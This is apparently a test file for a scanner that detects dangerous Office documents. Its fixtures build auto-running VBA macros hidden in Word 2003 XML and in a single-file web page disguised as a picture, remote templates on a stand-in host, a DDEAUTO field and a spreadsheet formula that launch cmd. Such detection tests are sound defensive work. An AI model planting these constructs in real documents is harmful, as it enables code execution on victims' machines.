import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { inspecting, told } from '../inspecting.ts';
import { makeVbaProject } from './make-vba.ts';

const project = makeVbaProject({ ThisDocument: 'Sub Document_Open()\r\nShell "calc"\r\nEnd Sub' });
/** What Office packs macros into, in web pages and in the XML of 2003. */
const activeMime = Buffer.concat([Buffer.from('ActiveMime'), Buffer.alloc(40), deflateSync(project)]);
const lines = (bytes: Buffer) => bytes.toString('base64').replaceAll(/.{76}/g, '$&\r\n');

const word2003 = (body: string) =>
  `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">${body}</w:wordDocument>`;

test('macros in the XML of Word 2003 are found', () => {
  const xml = word2003(
    `<w:docSuppData><w:binData w:name="editdata.mso">${lines(activeMime)}</w:binData></w:docSuppData>`,
  );
  expect(told(inspecting(xml, 'a.doc'))).toContain(
    'document.macro-starts-and-runs editdata.mso/VBA/ThisDocument',
  );
});

test('a document in one XML file is read like a package', () => {
  const part = (name: string, content: string) => `<pkg:part pkg:name="${name}">${content}</pkg:part>`;
  const xml = `<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">${part(
    '/word/vbaProject.bin',
    `<pkg:binaryData>${lines(project)}</pkg:binaryData>`,
  )}${part(
    '/word/_rels/settings.xml.rels',
    '<pkg:xmlData><Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.test/a" TargetMode="External"/></Relationships></pkg:xmlData>',
  )}</pkg:package>`;
  const found = told(inspecting(xml, 'a.xml'));
  expect(found).toContain('document.macro-starts-and-runs /word/vbaProject.bin/VBA/ThisDocument');
  expect(found).toContain('document.remote-template');
});

test('fields, templates and formulas of the XML of 2003 are found', () => {
  expect(
    told(inspecting(word2003('<w:fldSimple w:instr="DDEAUTO cmd &quot;/k calc&quot;"/>'), 'a.xml')),
  ).toContain('document.dde');
  expect(told(inspecting(word2003('<w:attachedTemplate w:val="\\\\evil.test\\a.dot"/>'), 'a.xml'))).toContain(
    'document.remote-template',
  );
  const table =
    '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:Formula="=cmd|\'/c calc\'!A0"/></Workbook>';
  expect(told(inspecting(table, 'a.xml'))).toContain('document.formula-runs');
});

test('macros in a web page of one file are found, under whatever name', () => {
  const page = [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="----=_Next"',
    '',
    '------=_Next',
    'Content-Location: file:///C:/x/document.htm',
    'Content-Type: text/html',
    '',
    '<html><p>Hello</p></html>',
    '------=_Next',
    'Content-Location: file:///C:/x/picture.jpg',
    'Content-Transfer-Encoding: base64',
    'Content-Type: image/jpeg',
    '',
    lines(activeMime),
    '------=_Next--',
    '',
  ].join('\r\n');
  expect(told(inspecting(page, 'a.mht'))).toContain(
    'document.macro-starts-and-runs picture.jpg/VBA/ThisDocument',
  );
  expect(told(inspecting(page, 'a.doc'))).toContain(
    'document.macro-starts-and-runs picture.jpg/VBA/ThisDocument',
  );
});
